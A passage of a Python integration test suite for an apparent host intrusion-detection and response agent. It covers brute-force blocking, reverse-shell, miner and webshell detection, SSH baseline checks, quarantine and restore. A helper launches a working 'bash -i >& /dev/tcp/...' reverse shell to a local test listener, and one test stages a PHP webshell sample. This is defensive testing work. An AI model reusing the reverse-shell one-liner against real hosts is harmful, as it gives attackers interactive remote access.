                             capture_output=True, text=True, timeout=30).stdout
        return out.strip() == "connected"

    def test_active_response_blocks_the_source_dry_run_does_not(self):
        for i in range(5):
            self.failed_login("guess-%d" % i)
        found = wait_for(lambda: self.responses("ssh-active"), timeout=10)
        self.assertTrue(found, self.responders["active"].log_tail())
        ev = found[0]
        self.assertIn("response.block", ev["rules"])
        self.assertEqual((ev["action"], ev["client"], ev["uri"]), ("block", "127.0.0.1",
                                                                   "127.0.0.1"))
        d = event_detail(ev, "response")
        self.assertEqual((d["mode"], d["trigger"], d["done"], d["seconds"]),
                         ("active", "bruteforce.source", True, 120))
        # the element is there, with its timeout, and it drops the traffic
        listed = self.nft("active", "list", "set", "inet", "rampart", "blocked4")
        self.assertEqual(listed.returncode, 0, listed.stderr)
        self.assertIn("127.0.0.1", listed.stdout)
        self.assertIn("expires", listed.stdout)
        self.assertFalse(self.connects_in("active"))
        # dry-run: the event says what would have been done; no table at all
        dry = wait_for(lambda: self.responses("ssh-dry-run"), timeout=10)
        self.assertTrue(dry, self.responders["dry-run"].log_tail())
        self.assertEqual(dry[0]["action"], "log")
        d = event_detail(dry[0], "response")
        self.assertEqual((d["mode"], d["done"]), ("dry-run", False))
        self.assertNotEqual(self.nft("dry-run", "list", "table", "inet", "rampart").returncode, 0)
        self.assertTrue(self.connects_in("dry-run"))
        # reversible: -U lifts the block; the agent reports the reversal
        active = self.responders["active"]
        r = subprocess.run([agent_path(), "-c", active.conf, "-U", "127.0.0.1"],
                           capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertNotIn("127.0.0.1",
                         self.nft("active", "list", "set", "inet", "rampart", "blocked4").stdout)
        self.assertTrue(self.connects_in("active"))
        self.assertTrue(wait_for(lambda: [e for e in self.responses("ssh-active")
                                          if "response.unblock" in e["rules"]], timeout=5))


def event_detail(ev, category):
    full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
    return full.get("event", full).get(category) or full.get("raw", {}).get(category)


def start_reverse_shell():
    """A real reverse shell: bash -i with stdin/stdout/stderr on a TCP
    connection to a listener of the test. Returns (shell, port, close)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    shell = subprocess.Popen(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port],
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=True)
    conn, _ = listener.accept()

    def close():
        if shell.poll() is None:
            os.killpg(shell.pid, signal.SIGKILL)
        shell.wait()
        conn.close()
        listener.close()
    return shell, port, close


class Processes(unittest.TestCase):
    """Real processes on the real kernel: exec events from the process connector."""

    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise unittest.SkipTest("the process connector needs CAP_NET_ADMIN")
        cls.agent = Agent(RD.port, enrolment_token(), hostname="proc-1",
                          extra_conf="process_monitor on\nprocess_scan_seconds 2\n")
        cls.agent.start()
        cls.agent.wait_log("process: exec events from the process connector")
        cls.agent.wait_log("fim: scan done")

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()

    def events(self, detection):
        r = AUDITOR.request("GET", "/api/v1/events?category=process&limit=500")
        self.assertEqual(r.status, 200, r)
        return [e for e in r.json()["events"] if detection in e["rules"]]

    def for_pid(self, detection, pid, timeout=5):
        def find():
            for e in self.events(detection):
                d = event_detail(e, "process")
                if d and d["pid"] == pid:
                    return e, d
            return None
        return wait_for(find, timeout=timeout, step=0.05)

    def test_a_reverse_shell_is_detected_an_ordinary_shell_is_not(self):
        ordinary = subprocess.Popen(["bash", "-c", "sleep 3; true"], stdin=subprocess.DEVNULL,
                                    stdout=subprocess.DEVNULL)
        started = time.time()
        shell, port, close = start_reverse_shell()
        try:
            found = self.for_pid("process.reverse_shell", shell.pid)
            self.assertTrue(found, self.agent.log_tail())
            latency = time.time() - started
            print("reverse shell -> event stored in rampartd: %.2f s" % latency, file=sys.stderr)
            self.assertLess(latency, 5)
            ev, d = found
            self.assertEqual(ev["client"], "127.0.0.1")
            self.assertEqual(ev["source"], "agent:proc-1")
            self.assertEqual(d["exe"], os.path.realpath(shutil.which("bash")))
            self.assertIn("bash -i", d["cmdline"])
            self.assertEqual(d["evidence"]["remote"], "127.0.0.1:%d" % port)
            self.assertIn(0, d["evidence"]["fds"])
            self.assertTrue(d["parents"], d)
            # the ordinary shell (stdin /dev/null, stdout a pipe) is not one
            self.assertIsNone(self.for_pid("process.reverse_shell", ordinary.pid, timeout=2.5))
        finally:
            close()
            ordinary.wait()

    def test_web_server_child_miner_deleted_file_and_listener(self):
        tmp = self.agent.dir
        # a worker titled "nginx" (prctl PR_SET_NAME) starting a shell
        web = subprocess.Popen([sys.executable, "-c",
                                "import ctypes, subprocess\n"
                                "ctypes.CDLL(None).prctl(15, b'nginx', 0, 0, 0)\n"
                                "subprocess.run(['sh', '-c', 'sleep 2; true'])"])
        miner = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3)",
                                  "-o", "stratum+tcp://pool.example:3333"])
        copy = os.path.join(tmp, "sleep-copy")
        shutil.copy("/bin/sleep", copy)
        deleted = subprocess.Popen([copy, "6"])
        time.sleep(0.2)
        os.unlink(copy)
        listen = subprocess.Popen([sys.executable, "-c",
                                   "import socket, time\ns = socket.socket()\n"
                                   "s.bind(('127.0.0.1', 0)); s.listen(1); time.sleep(6)"])
        try:
            found = wait_for(lambda: [d for d in (event_detail(e, "process") for e in
                                                  self.events("process.web_server_shell"))
                                      if d["evidence"]["server_pid"] == web.pid], timeout=5)
            self.assertTrue(found, self.agent.log_tail())
            self.assertEqual(found[0]["evidence"]["server_comm"], "nginx")
            self.assertTrue(self.for_pid("process.crypto_miner", miner.pid), self.agent.log_tail())
            d = self.for_pid("process.deleted_executable", deleted.pid, timeout=6)
            self.assertTrue(d, self.agent.log_tail())
            self.assertEqual(d[1]["evidence"]["file"], copy)
            d = self.for_pid("process.unexpected_listener", listen.pid, timeout=6)
            self.assertTrue(d, self.agent.log_tail())
            self.assertTrue(d[1]["evidence"]["listen"].startswith("127.0.0.1:"))
        finally:
            for p in (web, miner, deleted, listen):
                p.kill()
                p.wait()

    def test_switched_off_by_rampartd(self):
        aid = agents()["proc-1"]["id"]
        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"process": False}})
        self.assertEqual(r.status, 200, r)
        self.assertFalse(r.json()["capabilities"]["process"])
        self.agent.wait_log('capability switched by rampartd" process=off', timeout=5)
        miner = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(2)", "--donate-level"])
        self.assertIsNone(self.for_pid("process.crypto_miner", miner.pid, timeout=2.5))
        miner.wait()
        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"process": True}})
        self.assertEqual(r.status, 200, r)
        self.agent.wait_log('capability switched by rampartd" process=on', timeout=5)


class Baseline(unittest.TestCase):
    """The shipped SSH policy and a local one against a prepared root."""

    @classmethod
    def setUpClass(cls):
        cls.agent = Agent(RD.port, enrolment_token(), hostname="sca-1")
        root = os.path.join(cls.agent.dir, "root")
        os.makedirs(os.path.join(root, "etc", "ssh"))
        with open(os.path.join(root, "etc", "ssh", "sshd_config"), "w") as f:
            f.write("PermitRootLogin yes\nPasswordAuthentication no\nMaxAuthTries 3\n")
        os.chmod(os.path.join(root, "etc", "ssh", "sshd_config"), 0o600)
        local = os.path.join(cls.agent.dir, "local.policy")
        with open(local, "w") as f:
            f.write('policy local "Local"\ncheck local.motd "A login banner"\n'
                    ' control "GB/T 22239-2019 8.1.4.1 a)"\n rationale "r"\n remediation "m"\n'
                    ' file_contains /etc/issue.net "(?i)authori[sz]ed"\nend\n')
        cls.agent.write_conf("baseline_policy %s\nbaseline_policy %s\nbaseline_root %s\n" %
                             (os.path.join(harness.SOURCE_DIR, "etc", "baseline", "ssh.policy"),
                              local, root))
        cls.agent.start()
        cls.agent.wait_log("baseline: checks done")

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()

    def test_results_are_stored_per_host_and_readable(self):
        aid = agents()["sca-1"]["id"]
        path = "/api/v1/agents/%d/baseline" % aid
        r = wait_for(lambda: (lambda x: x if x.status == 200 else None)(
            AUDITOR.request("GET", path)), timeout=5)
        self.assertTrue(r, self.agent.log_tail())
        report = r.json()
        self.assertEqual(report["agent_id"], aid)
        self.assertIn("reported", report)
        results = {c["id"]: c for p in report["policies"] for c in p["checks"]}
        self.assertEqual(results["ssh.root_login"]["result"], "fail")
        self.assertIn("sshd_config:1", results["ssh.root_login"]["reason"])
        self.assertEqual(results["ssh.password_authentication"]["result"], "pass")
        self.assertEqual(results["ssh.max_auth_tries"]["result"], "pass")
        self.assertEqual(results["local.motd"]["result"], "fail")
        self.assertEqual(results["ssh.host_key_permissions"]["result"], "not_applicable")
        self.assertTrue(results["ssh.root_login"]["control"].startswith("GB/T 22239-2019"))
        self.assertTrue(results["ssh.root_login"]["remediation"])
        p = report["passed"] + report["failed"]
        self.assertEqual(report["score"], round(100 * report["passed"] / p))
        # people without agents:read, and anonymous callers, are refused
        self.assertEqual(RD.request("GET", path, headers=bearer(GATEWAY_TOKEN)).status, 403)
        self.assertEqual(RD.request("GET", path).status, 401)
        self.assertEqual(AUDITOR.request("GET", "/api/v1/agents/999999/baseline").status, 404)

    def test_a_malformed_report_is_refused(self):
        r = RD.request("POST", "/api/v1/agent/enrol",
                       {"token": enrolment_token(), "hostname": "sca-bad"})
        aid, secret = r.json()["agent"]["id"], bytes.fromhex(r.json()["secret"])
        path = "/api/v1/agent/baseline"
        for bad in ({"score": 101, "passed": 0, "failed": 0, "not_applicable": 0, "policies": []},
                    {"score": None, "passed": 1, "failed": 0, "not_applicable": 0,
                     "policies": []},
                    {"score": None, "passed": 1, "failed": 0, "not_applicable": 0,
                     "policies": [{"id": "p", "checks": [{"id": "c", "result": "maybe"}]}]}):
            body = json.dumps(bad).encode()
            r = curl(RD.port, "POST", path, body, sign(aid, secret, "POST", path, body),
                     content_type="application/json")
            self.assertEqual(r.status, 400, (bad, r))

    def test_a_malformed_policy_is_refused_with_file_and_line(self):
        bad = os.path.join(self.agent.dir, "bad.policy")
        with open(bad, "w") as f:
            f.write('policy bad "Bad"\ncheck x "X"\n sshd PermitRootLogin is no\nend\n')
        agent = Agent(RD.port, "rpe_unused", hostname="sca-2",
                      extra_conf="baseline_policy %s\n" % bad)
        agent.start()
        agent.proc.wait(timeout=10)
        self.assertEqual(agent.proc.returncode, 2)
        self.assertIn("%s:3: expected an operator" % bad, agent.log_text())


class ActiveResponse(unittest.TestCase):
    """Kill and quarantine in active mode, on real processes and files."""

    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise unittest.SkipTest("the process connector needs CAP_NET_ADMIN")
        cls.agent = Agent(RD.port, enrolment_token(), hostname="respond-1")
        cls.www = cls.agent.path("www")
        os.mkdir(cls.www)
        cls.agent.write_conf(
            "webshell_root %s\nwebshell_rules %s\nprocess_monitor on\nresponse_mode active\n"
            "response_rule process.reverse_shell kill\nresponse_rule webshell.* quarantine\n" %
            (cls.www, os.path.join(harness.SOURCE_DIR, "etc", "rampart-webshell.yar")))
        cls.agent.start()
        cls.agent.wait_log("fim: scan done")

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()

    def responses(self, detection):
        r = AUDITOR.request("GET", "/api/v1/events?category=response&limit=100")
        self.assertEqual(r.status, 200, r)
        return [e for e in r.json()["events"]
                if e["source"] == "agent:respond-1" and detection in e["rules"]]

    def test_a_reverse_shell_is_killed(self):
        shell, _, close = start_reverse_shell()
        try:
            self.assertEqual(shell.wait(timeout=5), -signal.SIGKILL)
        finally:
            close()
        found = wait_for(lambda: self.responses("response.kill"), timeout=5)
        self.assertTrue(found, self.agent.log_tail())
        d = event_detail(found[0], "response")
        self.assertEqual((d["pid"], d["done"], d["trigger"]),
                         (shell.pid, True, "process.reverse_shell"))

    def test_a_webshell_is_quarantined_and_restored(self):
        sample = os.path.join(harness.SOURCE_DIR, "tests", "data", "webshell", "shells",
                              "eval_post.php")
        path = os.path.join(self.www, "shell.php")
        staged = os.path.join(self.agent.dir, "shell.php")  # its mode set before it arrives
        shutil.copy(sample, staged)
        os.chmod(staged, 0o640)
        os.rename(staged, path)
        found = wait_for(lambda: self.responses("response.quarantine"), timeout=5)
        self.assertTrue(found, self.agent.log_tail())
        d = event_detail(found[0], "response")
        self.assertTrue(d["done"], d)
        self.assertFalse(os.path.exists(path))
        qdir = os.path.join(self.agent.state, "quarantine")
        self.assertEqual(stat.S_IMODE(os.stat(qdir).st_mode), 0o700)
        held = os.path.join(qdir, d["quarantine_id"])
        with open(held, "rb") as f, open(sample, "rb") as g:
            self.assertEqual(f.read(), g.read())
        with open(held + ".json") as f:
            meta = json.load(f)
        self.assertEqual((meta["path"], meta["mode"]), (path, 0o640))
        self.assertEqual(meta["sha256"], d["sha256"])
        # restored (responses switched off first: the rules would take it again)
        aid = agents()["respond-1"]["id"]
        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"response": False}})
        self.assertEqual(r.status, 200, r)
        self.agent.wait_log('capability switched by rampartd" response=off', timeout=5)
        r = subprocess.run([agent_path(), "-c", self.agent.conf, "-R", d["quarantine_id"]],
                           capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o640)
        with open(path, "rb") as f, open(sample, "rb") as g:
            self.assertEqual(f.read(), g.read())
        self.assertFalse(os.path.exists(held))
        self.assertTrue(wait_for(lambda: self.responses("response.restore"), timeout=5))
        # an unknown or malformed id restores nothing
        r = subprocess.run([agent_path(), "-c", self.agent.conf, "-R", "../../etc/passwd"],
                           capture_output=True, text=True)
        self.assertEqual(r.returncode, 1)


class JournalInput(unittest.TestCase):
    """sshd's messages from a systemd journal directory (sd_journal); the
    journal files are written by systemd-journal-remote from export format."""

    REMOTE = "/lib/systemd/systemd-journal-remote"

    @classmethod
    def setUpClass(cls):
        if not os.path.exists(cls.REMOTE):
            raise unittest.SkipTest("systemd-journal-remote is not installed "
                                    "(scripts/deps.sh installs it)")
        cls.agent = Agent(RD.port, enrolment_token(), hostname="journal-1")
        cls.journal = os.path.join(cls.agent.dir, "journal")
        os.mkdir(cls.journal)
        # history: failures from before the start are not replayed
        cls.write_journal("old", [("sshd", "Failed password for root from 192.0.2.99 port 1 ssh2")]
                          * 4)
        cls.agent.write_conf("auth_journal on\nauth_journal_dir %s\nbruteforce_threshold 3\n"
                             "bruteforce_window_seconds 60\n" % cls.journal)
        cls.agent.start()
        cls.agent.wait_log("fim: scan done")

    @classmethod
    def tearDownClass(cls):
        cls.agent.stop()

    @classmethod
    def write_journal(cls, name, entries):
        now = int(time.time() * 1e6)
        text = "".join("__REALTIME_TIMESTAMP=%d\nMESSAGE=%s\nSYSLOG_IDENTIFIER=%s\n_PID=%d\n\n" %
                       (now + i, msg, ident, 4000 + i) for i, (ident, msg) in enumerate(entries))
        export = os.path.join(cls.agent.dir, name + ".export")
        with open(export, "w") as f:
            f.write(text)
        subprocess.run([cls.REMOTE, "--output=%s" % os.path.join(cls.journal, name + ".journal"),
                        export], check=True, capture_output=True)

    def events(self):
        r = AUDITOR.request("GET", "/api/v1/events?category=bruteforce&limit=100")
        self.assertEqual(r.status, 200, r)
        return [e for e in r.json()["events"] if e["source"] == "agent:journal-1"]

    def test_guessing_logged_to_the_journal_is_detected(self):
        entries = [("sshd", "Failed password for invalid user u%d from 192.0.2.44 port %d ssh2"
                    % (i, 5000 + i)) for i in range(3)]
        # another program's look-alike line is not sshd's
        entries += [("cron", "Failed password for root from 192.0.2.55 port 1 ssh2")] * 3
        self.write_journal("new", entries)
        found = wait_for(lambda: [e for e in self.events() if "bruteforce.source" in e["rules"]],
                         timeout=5)
        self.assertTrue(found, self.agent.log_tail())
        self.assertEqual([e["client"] for e in found], ["192.0.2.44"])
        time.sleep(1.2)
        clients = {e["client"] for e in self.events()}
        self.assertNotIn("192.0.2.99", clients)  # history
        self.assertNotIn("192.0.2.55", clients)  # not sshd


class Lifecycle(unittest.TestCase):
    def test_changes_while_stopped_and_the_spool_across_an_outage(self):
        agent = Agent(RD.port, enrolment_token(), hostname="life-1")
        target = agent.path("app.conf")
        with open(target, "w") as f:
            f.write("a = 1\n")
        agent.start()
        agent.wait_log("enrolled")
        agent.wait_log("fim: scan done")
        self.assertEqual(agent.stop(), 0)
        with open(target, "w") as f:
            f.write("a = 2\n")
        agent.start()
        self.assertTrue(wait_for(lambda: fim_events(target, "fim.modified"), timeout=5),
                        agent.log_tail())

        # rampartd goes away: events wait in the spool, then arrive
        RD.stop()
        try:
            spooled = agent.path("during-outage.txt")
            with open(spooled, "w") as f:
                f.write("kept")
            agent.wait_log("kept in the spool")
            # the agent restarts during the outage: the spool survives
            self.assertEqual(agent.stop(), 0)
            self.assertGreater(os.path.getsize(os.path.join(agent.state, "spool",
                                                            "events.spool")), 0)
            agent.start()
        finally:
            RD.start()
        self.assertTrue(wait_for(lambda: fim_events(spooled, "fim.added"), timeout=70),
                        agent.log_tail())
        self.assertEqual(agent.stop(), 0)

    def test_reload_with_a_broken_configuration_keeps_running(self):
        agent = Agent(RD.port, enrolment_token(), hostname="life-2")
        agent.start()
        agent.wait_log("fim: scan done")
        agent.write_conf("heartbeat_seconds 0\n")
        agent.signal(signal.SIGHUP)
        agent.wait_log("reload refused")
        self.assertIn("heartbeat_seconds", agent.log_tail())
        self.assertIsNone(agent.proc.poll())
        agent.write_conf()
        agent.signal(signal.SIGHUP)
        agent.wait_log("configuration reloaded")
        self.assertEqual(agent.stop(), 0)

    def test_idle_cost(self):
        agent = Agent(RD.port, enrolment_token(), hostname="idle-1", heartbeat=30)
        for i in range(200):
            with open(agent.path("f%03d" % i), "w") as f:
                f.write("x" * i)
        agent.start()
        agent.wait_log("fim: scan done")
        time.sleep(1)
        cpu0, t0 = agent.cpu_seconds(), time.time()
        time.sleep(10)
        share = (agent.cpu_seconds() - cpu0) / (time.time() - t0)
        rss_mb = agent.rss_kib() / 1024
        print("idle agent: %.2f %% of a core, %.1f MB RSS" % (share * 100, rss_mb))
        self.assertLessEqual(share, 0.01)
        self.assertLessEqual(rss_mb, 30)
        agent.stop()


if __name__ == "__main__":
    unittest.main(verbosity=2)
